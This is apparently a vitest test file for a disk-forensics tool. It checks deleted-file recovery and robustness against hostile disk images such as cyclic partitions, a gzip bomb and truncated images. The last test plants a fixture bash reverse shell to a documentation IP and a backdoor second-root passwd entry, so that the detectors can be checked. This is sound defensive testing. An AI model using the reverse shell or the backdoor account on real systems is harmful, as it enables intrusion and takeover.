import { mkdtempSync, openSync, rmSync, truncateSync, writeFileSync, writeSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { afterAll, describe, expect, it } from 'vitest';
import { examine } from './examine.ts';
import { debugfs, makeExt4 } from './ext4.ts';

const folder = mkdtempSync(join(tmpdir(), 'afo-hostile-disk-'));
afterAll(() => {
  rmSync(folder, { recursive: true });
});

describe('when deleted names are followed', () => {
  const script = (line: string): string => `#!/bin/sh\n${line}\n`;

  it('F-71 never shows the content of another file as that of a deleted one', async () => {
    const image = makeExt4(folder, { files: [['tmp/keep', 'k']] });
    const source = join(folder, 'source');
    const write = (text: string, path: string): void => {
      writeFileSync(source, text);
      debugfs(image, `write ${source} ${path}`);
    };
    write(script('echo first holder of the inode'), '/tmp/reused.sh');
    write(script('echo second'), '/tmp/between.sh');
    debugfs(image, 'rm /tmp/reused.sh');
    write(
      'the next file takes inode and blocks\n',
      '/tmp/a-much-longer-name-that-goes-elsewhere.txt',
    );
    write(script('echo whole'), '/tmp/whole-file-to-recover.sh');
    debugfs(image, 'rm /tmp/whole-file-to-recover.sh');

    const { recovered, detections, events } = await examine(image, {
      only: ['file-times', 'file-anomalies'],
    });

    expect(recovered.map(({ title, bytes }) => [title, Buffer.from(bytes).toString()])).toEqual([
      ['/tmp/whole-file-to-recover.sh', script('echo whole')],
    ]);
    expect(events.filter(({ pointer }) => pointer.path === '/tmp/reused.sh')).toEqual([]);
    const told = detections.find(({ pointers }) => pointers[0]?.path === '/tmp/reused.sh');
    expect(told?.description).toContain('belongs to another file');
    expect(told?.facts).toEqual({ recovered: false });
  });

  it('F-71 shows no content when other files have taken the blocks since', async () => {
    const image = makeExt4(folder, { files: [['tmp/keep', 'k']] });
    const source = join(folder, 'blocks');
    writeFileSync(source, 'x'.repeat(1024));
    debugfs(image, `write ${source} /tmp/spare`);
    writeFileSync(source, script('echo overwritten').padEnd(3000, '#'));
    debugfs(image, `write ${source} /tmp/overwritten.sh`);
    debugfs(image, 'rm /tmp/spare');
    debugfs(image, 'rm /tmp/overwritten.sh');
    writeFileSync(source, 'y'.repeat(8192));
    debugfs(image, `write ${source} /var-takes-the-inode-of-spare-and-all-blocks`);

    const { recovered, detections } = await examine(image, { only: ['file-anomalies'] });

    expect(recovered).toEqual([]);
    expect(
      detections.find(({ pointers }) => pointers[0]?.path === '/tmp/overwritten.sh')?.description,
    ).toContain('taken its blocks');
  });
});

describe('when a disk is made to hurt', () => {
  it('F-72 says that extended partitions lead in a circle', async () => {
    const image = join(folder, 'cyclic.raw');
    writeFileSync(
      image,
      partitionTable([
        [0x83, 2048, 2048],
        [0x05, 4096, 4000],
      ]),
    );
    truncateSync(image, 4 * 2 ** 20);
    writeSync(
      openSync(image, 'r+'),
      partitionTable([
        [0x83, 63, 500],
        [0x05, 0, 4000],
      ]),
      0,
      512,
      4096 * 512,
    );

    const { limits, failures } = await examine(image, { only: ['disk-layout'] });

    expect([...failures]).toEqual([]);
    expect(limits).toContainEqual(expect.stringContaining('lead in a circle'));
  });

  it('F-72 says that a partition claims more than there is, and goes on', async () => {
    const image = join(folder, 'beyond.raw');
    writeFileSync(image, partitionTable([[0x83, 2048, 0xffff0000]]));
    truncateSync(image, 4 * 2 ** 20);

    const { limits, failures } = await examine(image, { only: ['disk-layout'] });

    expect([...failures]).toEqual([]);
    expect(limits).toContainEqual(expect.stringContaining('after the end of the image'));
  });

  it('F-72 fails with a code for a superblock that claims 2^60 blocks, and does not try to read them', async () => {
    const image = makeExt4(folder, {
      files: [['a', 'a']],
      options: ['-O', '64bit,^metadata_csum'],
    });
    const descriptor = openSync(image, 'r+');
    const count = Buffer.alloc(4);
    count.writeUInt32LE(0x10000000);
    writeSync(descriptor, count, 0, 4, 1024 + 0x150);
    const before = Date.now();

    const { failures, limits } = await examine(image);

    expect(Date.now() - before).toBeLessThan(20_000);
    const codes = [...failures.values()].map((cause) => (cause as { code?: string }).code);
    expect(
      codes.every(
        (code) => code?.startsWith('analysis.') === true || code?.startsWith('tool.') === true,
      ),
    ).toBe(true);
    expect(failures.size + limits.length).toBeGreaterThan(0);
  });

  it('F-06 fails for an image without a file system, instead of finding nothing in it', async () => {
    const image = join(folder, 'noise.raw');
    writeFileSync(image, Buffer.alloc(2 ** 20, 'noise'));

    const { failures, limits } = await examine(image);

    expect([...failures.keys()]).toEqual([
      'file-times',
      'file-anomalies',
      'package-integrity',
      'yara-x',
      'log-ins',
      'shell-and-web',
      'persistence',
    ]);
    expect(limits).toContainEqual(expect.stringContaining('no file system that is known'));
  });

  it('F-72 bears a file that claims a tebibyte, and says where a chain of 300 folders is not followed', async () => {
    const deep = `${Array.from({ length: 300 }, () => 'd').join('/')}/end.sh`;
    const image = makeExt4(folder, {
      files: [
        ['huge', 'x'],
        [deep, '#!/bin/sh\n'],
      ],
      changes: ['set_inode_field /huge size 1099511627776'],
    });

    const { failures, events, limits } = await examine(image);

    expect([...failures]).toEqual([]);
    expect(events.length).toBeGreaterThan(128);
    expect(limits).toContainEqual(expect.stringContaining('lie so deep'));
  }, 60_000);

  it('F-72 cuts off a log that unpacks without end, and says so', async () => {
    const member = gzipSync(Buffer.alloc(64 * 2 ** 20), { level: 1 });
    const line = gzipSync(
      'Nov 18 02:00:00 web sshd[1]: Accepted password for ana from 192.0.2.9 port 1 ssh2\n',
    );
    const bomb = Buffer.concat([line, ...Array.from({ length: 17 }, () => member)]);
    const image = makeExt4(folder, {
      files: [
        ['var/log/auth.log.2.gz', bomb],
        ['etc/passwd', ''],
      ],
    });

    const { limits, events, failures } = await examine(image, { only: ['log-ins'] });

    expect([...failures]).toEqual([]);
    expect(limits).toContainEqual(expect.stringContaining('unpacks to more than'));
    expect(events).toMatchObject([{ kind: 'login.accepted' }]);
  }, 60_000);

  it('F-72 says that a packed log is damaged, and reads the others', async () => {
    const whole = gzipSync(
      'Nov 18 02:00:00 web sshd[1]: Accepted password for ana from 192.0.2.9 port 1 ssh2\n',
    );
    const image = makeExt4(folder, {
      files: [
        ['var/log/auth.log.2.gz', whole.subarray(0, 40)],
        ['var/log/auth.log.3.gz', whole],
        ['var/log/auth.log.4.xz', 'x'],
      ],
    });

    const { limits, events } = await examine(image, { only: ['log-ins'] });

    expect(limits.filter((limit) => limit.startsWith('Not examined'))).toHaveLength(2);
    expect(events).toHaveLength(1);
  });

  it('F-01 says which contents lie beyond the end of a cut-off image, and calls none of them empty', async () => {
    const whole = makeExt4(folder, {
      files: [
        ['etc/hostname', 'web\n'],
        ['opt/program', Buffer.alloc(9 * 2 ** 20, 'x')],
      ],
      mebibytes: 24,
    });
    truncateSync(whole, 8 * 2 ** 20);

    const { limits } = await examine(whole, { only: ['yara-x'] });

    expect(limits).toContainEqual(
      expect.stringMatching(/^The content of 1 file was not examined: the image ends/),
    );
  });

  it('reads contents that lie inside of the metadata, and never the boot sector in their place', async () => {
    const image = makeExt4(folder, {
      files: [
        ['tmp/.x/run.sh', '#!/bin/sh\nbash -i >& /dev/tcp/198.51.100.2/4444 0>&1\n'],
        ['etc/passwd', 'evil:x:0:0::/:/bin/sh\n'],
      ],
      options: ['-O', 'inline_data', '-I', '256'],
    });

    const { detections, failures } = await examine(image);

    expect([...failures]).toEqual([]);
    expect(detections.map(({ rule }) => rule)).toEqual(
      expect.arrayContaining(['yara.reverse_shell_script', 'linux.accounts.second-root']),
    );
  });
});

function partitionTable(partitions: readonly (readonly [number, number, number])[]): Buffer {
  const table = Buffer.alloc(512);
  table.set([0x55, 0xaa], 510);
  for (const [index, [type, first, length]] of partitions.entries()) {
    table[446 + index * 16 + 4] = type;
    table.writeUInt32LE(first, 446 + index * 16 + 8);
    table.writeUInt32LE(length, 446 + index * 16 + 12);
  }
  return table;
}
